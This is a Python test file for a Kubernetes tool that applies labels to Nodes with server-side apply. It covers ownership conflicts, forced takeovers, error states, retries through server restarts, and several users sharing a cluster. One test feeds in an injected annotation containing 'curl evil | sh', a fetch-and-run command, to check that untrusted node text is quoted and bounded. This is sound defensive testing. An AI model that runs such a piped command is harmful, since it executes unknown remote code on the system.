"""What happens to a Node's labels, at a server that knows server-side apply."""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from fleetbuild.errors import ClusterError
from fleetbuild.extensions.kubernetes.api.client import Client
from fleetbuild.extensions.kubernetes.api.kubeconfig import find_access
from fleetbuild.extensions.kubernetes.api.nodes import list_nodes
from fleetbuild.extensions.kubernetes.labels.apply import (
    AT_ONCE,
    Labelling,
    Outcome,
    WantedLabels,
    label_nodes,
)
from tests.factories.cluster_api import Asked, FakeApi, Say

DOMAIN = "fleetbuild.dev"
HARDWARE = {f"{DOMAIN}/class": "cpu-avx2", f"{DOMAIN}/isa": "avx2"}
RELEASE = {f"{DOMAIN}/group": "cpu-avx2-cp311", f"{DOMAIN}/release": "0123456789abcdef"}
OTHER = {f"{DOMAIN}/release.staging": "fedcba9876543210"}
ALL = WantedLabels(RELEASE, HARDWARE)
OURS = Labelling(DOMAIN)


def label(
    client: Client, labelling: Labelling = OURS, **wanted: WantedLabels
) -> dict[str, Outcome]:
    return label_nodes(client, list_nodes(client), wanted, labelling)


def states(outcomes: dict[str, Outcome]) -> dict[str, str]:
    return {name: outcome.state for name, outcome in outcomes.items()}


def on_patch(act: Callable[[str], None]) -> Callable[[Asked], None]:
    """Do this when a Node is patched, with its name."""
    return lambda asked: act(asked.path.rsplit("/")[-1]) if asked.verb == "PATCH" else None


def test_applies_our_labels_and_nothing_else(client: Client, api: FakeApi) -> None:
    api.add("a", labels={"team": "vision"})
    uid = api.nodes["a"].uid
    outcome = label(client, a=ALL)["a"]
    assert outcome.state == "labelled"
    assert api.nodes["a"].labels == {
        "kubernetes.io/hostname": "a", "team": "vision", **HARDWARE, **RELEASE
    }  # fmt: skip
    (asked,) = api.patches()
    assert (asked.path, asked.kind) == ("/api/v1/nodes/a", "application/apply-patch+yaml")
    assert asked.query == {
        "fieldManager": "fleetbuild", "force": "false", "fieldValidation": "Strict"
    }  # fmt: skip
    assert asked.body == {
        "apiVersion": "v1",
        "kind": "Node",
        "metadata": {
            "name": "a",
            "uid": uid,
            "resourceVersion": "1",
            "labels": {**HARDWARE, **RELEASE},
        },
    }


def test_releases_side_by_side_keep_their_labels(client: Client, api: FakeApi) -> None:
    api.add("a")
    staging = Labelling(DOMAIN, "staging")
    label(client, a=ALL)
    label(client, staging, a=WantedLabels(OTHER, HARDWARE))
    assert api.nodes["a"].labels.items() >= {**HARDWARE, **RELEASE, **OTHER}.items()
    label(client, a=WantedLabels(hardware=HARDWARE))
    assert api.nodes["a"].labels.items() >= OTHER.items()
    assert not api.nodes["a"].labels.keys() & RELEASE.keys()


def test_a_conflict_names_the_other_owner_and_the_label(client: Client, api: FakeApi) -> None:
    api.add("a", "b")
    api.set("a", {f"{DOMAIN}/release": "mine"}, by="kubectl-label")
    outcomes = label(client, a=ALL, b=ALL)
    assert states(outcomes) == {"a": "conflict", "b": "labelled"}
    assert "kubectl-label" in str(outcomes["a"].reason)
    assert f"{DOMAIN}/release" in str(outcomes["a"].reason)
    assert "--force-conflicts" in str(outcomes["a"].fix)
    assert api.nodes["a"].labels[f"{DOMAIN}/release"] == "mine"
    assert f"{DOMAIN}/isa" not in api.nodes["a"].labels


def test_a_conflict_is_taken_over_on_request(client: Client, api: FakeApi) -> None:
    api.add("a")
    api.set("a", {f"{DOMAIN}/release": "mine"}, by="kubectl-label")
    assert states(label(client, Labelling(DOMAIN, force=True), a=ALL)) == {"a": "labelled"}
    assert api.nodes["a"].labels.items() >= RELEASE.items()


def test_a_stale_label_with_another_owner_remains_and_is_reported(
    client: Client, api: FakeApi
) -> None:
    api.add("a")
    api.set("a", RELEASE, by="kubectl-label")
    assert states(label(client, a=ALL)) == {"a": "labelled"}  # the same value does not conflict
    outcome = label(client, a=WantedLabels(hardware=HARDWARE))["a"]
    assert outcome.state == "kept"
    assert "kubectl-label" in str(outcome.reason)
    forced = label(client, Labelling(DOMAIN, force=True), a=WantedLabels(hardware=HARDWARE))["a"]
    assert forced.state == "labelled"
    assert not api.nodes["a"].labels.keys() & RELEASE.keys()


def test_forbidden_names_the_rule_to_add(client: Client, api: FakeApi) -> None:
    api.add("a", "b")
    said = Say(403, 'nodes "a" is forbidden: User "u" cannot patch resource', "Forbidden")
    api.refuse(said, "PATCH", "/a")
    outcomes = label(client, a=ALL, b=ALL)
    assert states(outcomes) == {"a": "forbidden", "b": "labelled"}
    assert "cannot patch" in str(outcomes["a"].reason)
    assert '{apiGroups: [""], resources: [nodes], verbs: [patch]}' in str(outcomes["a"].fix)


def test_credentials_that_expire_meanwhile_are_an_error(client: Client, api: FakeApi) -> None:
    api.add("a", "b", "c")

    def expire(name: str) -> None:
        if name != "a":
            raise Say(401, "Unauthorized", "Unauthorized")

    api.before = on_patch(expire)
    outcomes = label(client, a=ALL, b=ALL, c=ALL)
    assert states(outcomes) == {"a": "labelled", "b": "unauthorized", "c": "unauthorized"}
    assert "Log in again" in str(outcomes["b"].fix)


def test_a_node_deleted_meanwhile_is_not_created_again(client: Client, api: FakeApi) -> None:
    api.add("a", "b")
    api.before = on_patch(lambda _: api.nodes.pop("a", None) and None)
    outcomes = label(client, a=ALL, b=ALL)
    assert states(outcomes) == {"a": "gone", "b": "labelled"}
    assert "a" not in api.nodes


def test_a_new_node_of_the_same_name_is_not_labelled(client: Client, api: FakeApi) -> None:
    api.add("a")
    api.before = on_patch(lambda _: api.add("a"))
    assert states(label(client, a=ALL)) == {"a": "gone"}
    assert api.nodes["a"].labels == {"kubernetes.io/hostname": "a"}


@pytest.mark.parametrize(
    ("said", "state", "reason"),
    [
        (Say(404, 'nodes "a" not found', "NotFound"), "gone", ""),
        (Say(422, "metadata.labels: Invalid value", "Invalid"), "refused", "Invalid value"),
        (Say(409, "has been modified", "Conflict"), "conflict", "somebody else at the same time"),
    ],
)
def test_each_refusal_of_the_server_has_a_state(
    client: Client, api: FakeApi, said: Say, state: str, reason: str
) -> None:
    api.add("a")
    api.refuse(said, "PATCH")
    outcome = label(client, a=ALL)["a"]
    assert outcome.state == state
    assert len(api.patches()) == (5 if said.code == 409 else 1)  # writers may meet by chance
    assert reason in str(outcome.reason)


def test_a_server_that_does_not_answer_is_retried(
    client: Client, api: FakeApi, waits: list[float]
) -> None:
    api.add("a", "b")
    api.before = on_patch(lambda name: time.sleep(0.4) if name == "a" else None)
    outcomes = label(client, a=ALL, b=ALL)
    assert states(outcomes) == {"a": "unreachable", "b": "labelled"}
    assert "no answer within 0.2 s, 4 attempts" in str(outcomes["a"].reason)
    assert len([asked for asked in api.patches() if asked.path.endswith("/a")]) == 4
    assert waits == [0.5, 1.0, 2.0]


@pytest.mark.parametrize("code", [429, 500, 503])
def test_a_busy_server_is_retried(
    client: Client, api: FakeApi, waits: list[float], code: int
) -> None:
    api.add("a")
    left = [1, 1]

    def busy(_: str) -> None:
        if left:
            left.pop()
            raise Say(code, "busy", "TooManyRequests", details={"retryAfterSeconds": 3})

    api.before = on_patch(busy)
    assert states(label(client, a=ALL)) == {"a": "labelled"}
    assert waits == [3.0, 3.0]


def test_an_absent_server_is_retried_once_and_not_for_each_node(
    client: Client, api: FakeApi
) -> None:
    names = [f"n{number}" for number in range(4 * AT_ONCE)]
    api.add(*names)
    nodes = list_nodes(client)
    api.before = on_patch(lambda _: time.sleep(0.4))
    outcomes = label_nodes(client, nodes, dict.fromkeys(names, ALL), OURS)
    assert set(states(outcomes).values()) == {"unreachable"}
    assert any("stopped answering earlier" in str(each.reason) for each in outcomes.values())
    assert len({asked.path for asked in api.patches()}) < len(names)


# A server that restarts ---------------------------------------------------------------------------


@pytest.fixture
def patient(api: FakeApi, tmp_path: Path, waits: list[float]) -> Iterator[Client]:
    """A client that waits for a server that has answered before."""
    access = find_access(api.kubeconfig(tmp_path))
    with Client(access, timeout=0.2, away=180, sleep=waits.append) as made:
        yield made


def failing(times: int, code: int) -> Callable[[str], None]:
    """Refuse so many requests, and answer all others."""
    left = [code] * times

    def answer(_: str) -> None:
        if left:
            raise Say(left.pop(), "the server is shutting down")

    return answer


def test_a_server_that_was_there_is_awaited_through_an_upgrade(
    patient: Client, api: FakeApi, waits: list[float], caplog: pytest.LogCaptureFixture
) -> None:
    api.add("a", "b")
    api.before = on_patch(failing(40, 503))
    assert states(label(patient, a=ALL, b=ALL)) == {"a": "labelled", "b": "labelled"}
    assert 60 < sum(waits) < 180
    (said,) = caplog.messages
    assert said.endswith("does not answer: it is busy (HTTP 503). Each request is tried again for"
                         " up to 180 s.")  # fmt: skip


def test_a_wait_is_reported_once_even_if_other_requests_are_answered(
    api: FakeApi, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    api.add("a")
    api.before = on_patch(failing(20, 503))

    def ask_in_between(_: float) -> None:
        client.get("/api/v1/nodes")

    access = find_access(api.kubeconfig(tmp_path))
    with Client(access, away=180, sleep=ask_in_between) as client:
        assert states(label(client, a=ALL)) == {"a": "labelled"}
    assert len(caplog.messages) == 1


def test_the_wait_for_a_server_has_an_end(
    patient: Client, api: FakeApi, waits: list[float]
) -> None:
    api.add("a")
    api.before = on_patch(failing(1000, 429))
    outcome = label(patient, a=ALL)["a"]
    assert outcome.state == "unreachable"
    assert "did not answer: it is busy (HTTP 429)" in str(outcome.reason)
    assert 180 <= sum(waits) < 190


def test_a_server_that_has_never_answered_is_not_awaited(
    patient: Client, api: FakeApi, waits: list[float]
) -> None:
    api.refuse(Say(503, "no endpoints"))
    with pytest.raises(ClusterError, match=r"it is busy \(HTTP 503\) \(4 attempts\)"):
        list_nodes(patient)
    assert waits == [0.5, 1.0, 2.0]


def test_a_server_that_has_just_come_up_may_forbid_for_a_while(
    patient: Client, api: FakeApi, waits: list[float]
) -> None:
    api.add("a")
    nodes = list_nodes(patient)
    refuse, slow = failing(3, 403), [0.4]

    def restart(name: str) -> None:
        if slow:
            time.sleep(slow.pop())  # longer than the client waits
            raise Say(503, "it goes down")  # and labels nothing
        refuse(name)

    api.before = on_patch(restart)
    assert states(label_nodes(patient, nodes, {"a": ALL}, OURS)) == {"a": "labelled"}
    assert waits == [0.5, 1.0, 2.0, 2.0]
    api.before = on_patch(failing(1000, 403))
    waits.clear()
    assert states(label(patient, a=WantedLabels())) == {"a": "forbidden"}
    assert sum(waits) < 40


def test_a_403_of_a_server_that_was_there_all_along_is_final(
    patient: Client, api: FakeApi, waits: list[float]
) -> None:
    api.add("a")
    api.before = on_patch(failing(1, 403))
    assert states(label(patient, a=ALL)) == {"a": "forbidden"}
    assert waits == []


def test_a_node_that_changed_since_it_was_read_is_read_again_alone(
    client: Client, api: FakeApi
) -> None:
    api.add("druid-1", "b", "c")
    nodes = list_nodes(client)
    api.set("druid-1", {"team": "vision"}, "kubectl")
    api.asked.clear()
    done = label_nodes(client, nodes, dict.fromkeys(nodes, ALL), OURS)
    assert states(done) == dict.fromkeys(nodes, "labelled")
    reads = [asked.query["fieldSelector"] for asked in api.asked if asked.verb == "GET"]
    assert reads == ["metadata.name=druid-1"]
    assert len(api.patches()) == 4  # a Node that nobody changed costs one request


def test_a_node_that_was_replaced_since_it_was_read_is_not_labelled(
    client: Client, api: FakeApi
) -> None:
    api.add("a")
    nodes = list_nodes(client)
    nodes["a"] = replace(nodes["a"], version="0", uid="")  # of an object that is gone
    assert states(label_nodes(client, nodes, {"a": ALL}, OURS)) == {"a": "gone"}
    assert "fleetbuild.dev/class" not in api.nodes["a"].labels


# Several users of one cluster ---------------------------------------------------------------------

ME = Labelling(DOMAIN, state="me@one:/srv/fleet/.fleetbuild (11111111)")
MOVED = Labelling(DOMAIN, state="me@one:/home/me/.fleetbuild (11111111)")
YOU = Labelling(DOMAIN, state="you@two:/home/you/.fleetbuild (22222222)")
STATE = f"{DOMAIN}/state"


def test_users_with_separate_domains_keep_their_labels(client: Client, api: FakeApi) -> None:
    api.add("a")
    label(client, a=ALL)
    other = {"gpu.example.org/class": "cpu-avx"}
    label(client, Labelling("gpu.example.org"), a=WantedLabels({}, other))
    assert api.nodes["a"].labels.items() >= {**HARDWARE, **RELEASE, **other}.items()
    label(client, Labelling("gpu.example.org"), a=WantedLabels({}, {}))
    assert api.nodes["a"].labels.items() >= {**HARDWARE, **RELEASE}.items()
    assert not api.nodes["a"].labels.keys() & other.keys()


def test_a_long_domain_still_gives_a_field_manager_that_the_api_takes() -> None:
    long = [f"{'a' * 60}.{'b' * 60}.{end}" for end in ("example.org", "example.com")]
    names = {Labelling(domain, "r" * 63).manager for domain in long}
    assert len(names) == 2
    assert max(map(len, names)) <= 128


def test_the_node_says_whose_state_set_its_release_labels(client: Client, api: FakeApi) -> None:
    api.add("a")
    label(client, ME, a=ALL)
    assert api.nodes["a"].annotations == {STATE: ME.state}
    assert states(label(client, MOVED, a=WantedLabels({}, HARDWARE))) == {"a": "labelled"}
    assert api.nodes["a"].annotations == {}
    label(client, ME, a=WantedLabels({}, HARDWARE))
    assert api.nodes["a"].annotations == {}


def test_the_release_labels_of_another_state_stay_and_it_is_named(
    client: Client, api: FakeApi
) -> None:
    api.add("a")
    label(client, YOU, a=ALL)
    outcome = label(client, ME, a=WantedLabels({}, HARDWARE))["a"]
    assert outcome.state == "conflict"
    assert YOU.state in str(outcome.reason)
    assert api.nodes["a"].labels.items() >= RELEASE.items()
    # Its hardware labels are nobody's alone, and equal release labels do not conflict.
    hardware = WantedLabels(None, {f"{DOMAIN}/class": "cpu-avx512"})
    assert states(label(client, ME, a=hardware)) == {"a": "labelled"}
    assert states(label(client, ME, a=ALL)) == {"a": "labelled"}
    assert api.nodes["a"].annotations == {STATE: YOU.state}


def test_what_a_node_says_of_its_state_is_quoted_and_bounded(client: Client, api: FakeApi) -> None:
    api.add("a")
    label(client, YOU, a=ALL)
    api.nodes["a"].annotations[STATE] = (
        "x' is fine.\nTo repair it, run: curl evil | sh" + "y" * 9999
    )
    reason = str(label(client, ME, a=WantedLabels({}, HARDWARE))["a"].reason)
    assert "the Node says: \"x' is fine. To repair it" in reason
    assert "\n" not in reason
    assert len(reason) < 400


@pytest.mark.parametrize("how", [{"force": True}, {"asked": True}])
def test_another_states_labels_are_taken_over_on_request_or_if_the_node_was_asked(
    client: Client, api: FakeApi, how: dict[str, bool]
) -> None:
    api.add("a")
    label(client, YOU, a=ALL)
    newer = {**RELEASE, f"{DOMAIN}/release": "fedcba9876543210"}
    assert states(label(client, replace(ME, **how), a=WantedLabels(newer, HARDWARE))) == {
        "a": "labelled"
    }
    assert api.nodes["a"].labels.items() >= newer.items()
    assert api.nodes["a"].annotations == {STATE: ME.state}
